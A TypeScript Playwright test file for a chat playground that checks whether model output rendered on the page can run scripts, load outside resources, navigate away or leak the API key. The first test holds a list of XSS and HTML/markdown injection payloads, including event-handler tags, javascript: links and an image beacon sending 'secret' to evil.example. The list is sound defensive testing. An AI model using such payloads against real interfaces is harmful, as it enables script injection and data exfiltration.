import { ask, lastAnswer, openChat, send } from './support/chat-page.ts'
import { expect, test } from './support/server.ts'

const corpus = [
  '<script>window.hit = 1</script>',
  '<img src=x onerror="window.hit = 2">',
  '<svg onload="window.hit = 3"><circle/></svg>',
  '<iframe src="https://evil.example/frame"></iframe>',
  '<a href="javascript:window.hit = 4" id="js-html">html link</a>',
  '[markdown link](javascript:window.hit=5)',
  '[data link](data:text/html,<script>window.hit=6</script>)',
  '![outside](https://evil.example/pixel.png?q=secret)',
  '![reference][ref]\n\n[ref]: https://evil.example/reference.png',
  '<https://evil.example/auto>',
  '<style>body { display: none }</style>',
  '<form action="https://evil.example"><button>Sign in again</button></form>',
  '<object data="https://evil.example/o"></object><embed src="https://evil.example/e">',
  '<details open ontoggle="window.hit = 7"><summary>x</summary></details>',
  '<math><mtext><img src=x onerror="window.hit = 8"></mtext></math>',
  '[look-alike](https://localhost@evil.example/)',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/s.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
]

test('C8: model output cannot run code, load resources or navigate away', async ({ page, upstream }) => {
  const dialogs: string[] = []
  page.on('dialog', dialog => {
    dialogs.push(dialog.message())
    void dialog.dismiss()
  })
  upstream.on('attacker', {
    kind: 'answer',
    reasoning: corpus.join('\n\n'),
    text: corpus.map(text => `${text}\n\n`),
  })
  await openChat(page, 'scripted/attacker')

  const answer = await ask(page, 'Hi')

  // The fixture fails this test for any request to another origin.
  await expect(answer.getByRole('link', { name: /look-alike/ })).toContainText('(evil.example)')
  expect(await page.evaluate(() => (window as unknown as { hit?: number }).hit)).toBeUndefined()
  expect(dialogs).toEqual([])
  expect(
    await answer
      .locator('script, iframe, svg[onload], form, object, embed, style, img, base, link, meta')
      .count(),
  ).toBe(0)
  for (const link of await answer.getByRole('link').all()) {
    expect(await link.getAttribute('href')).toMatch(/^(https?:|mailto:)/)
    expect(await link.getAttribute('rel')).toBe('noopener noreferrer nofollow')
  }
  await expect(answer.getByText('outside', { exact: true })).toBeVisible()
  await expect(page.locator('body')).toBeVisible()
})

test('the playground key is in no response, script or page', async ({ page, server }) => {
  const bodies: Promise<string>[] = []
  page.on('response', response => {
    if (response.request().resourceType() !== 'image') bodies.push(response.text().catch(() => ''))
  })
  await openChat(page, 'scripted/echo')
  await ask(page, 'Hi')
  await page.getByRole('tab', { name: 'HTTP' }).click()
  await page.getByRole('tab', { name: 'Code' }).click()

  const seen = [...(await Promise.all(bodies)), await page.content()].join('\n')

  expect(seen).not.toMatch(/sxt_[0-9A-Za-z]{20,}/)
  expect(seen).not.toContain(server.apiKey)
  expect(seen).toContain('$SEXTANT_API_KEY')
})

test('a very long answer with many code blocks never blocks the page', async ({
  page,
  browser,
  upstream,
}) => {
  const block = (index: number) =>
    `Block ${index}\n\n\`\`\`ts\nexport const value${index}: number = ${index} // the ${index}th\n\`\`\`\n\n${'Words. '.repeat(8)}\n\n`
  const pieces =
    Array.from({ length: 120 }, (_, index) => block(index))
      .join('')
      .match(/[^]{1,40}/g) ?? []
  upstream.on('novel', { kind: 'answer', text: pieces, delayMs: 5 })
  await openChat(page, 'scripted/novel')
  await browser.startTracing(page, { categories: ['toplevel'] })

  await send(page, 'Write')
  await expect(lastAnswer(page)).toContainText('Block 119', { timeout: 60_000 })
  await expect(lastAnswer(page)).toHaveAttribute('aria-busy', 'false')
  await expect(lastAnswer(page).locator('pre span[style]').last()).toBeVisible()

  const longestMs = readLongestTaskMs(await browser.stopTracing())
  test.info().annotations.push({ type: 'longest task', description: `${Math.round(longestMs)} ms` })
  expect(longestMs).toBeGreaterThan(0)
  // Three times the measured time: a slow machine passes, but a full redraw takes seconds.
  expect(longestMs).toBeLessThan(300)
})

/** The longest task of a page's main thread in CPU time, so that other load on the machine does not count. */
function readLongestTaskMs(trace: Buffer): number {
  const { traceEvents } = JSON.parse(trace.toString()) as {
    traceEvents: { name: string; pid: number; tid: number; tdur?: number; args: { name?: string } }[]
  }
  const mains = new Set(
    traceEvents
      .filter(event => event.name === 'thread_name' && event.args.name === 'CrRendererMain')
      .map(({ pid, tid }) => `${pid}:${tid}`),
  )
  const tasks = traceEvents.filter(
    ({ name, pid, tid }) => name === 'ThreadControllerImpl::RunTask' && mains.has(`${pid}:${tid}`),
  )
  return Math.max(0, ...tasks.map(({ tdur }) => (tdur ?? 0) / 1000))
}
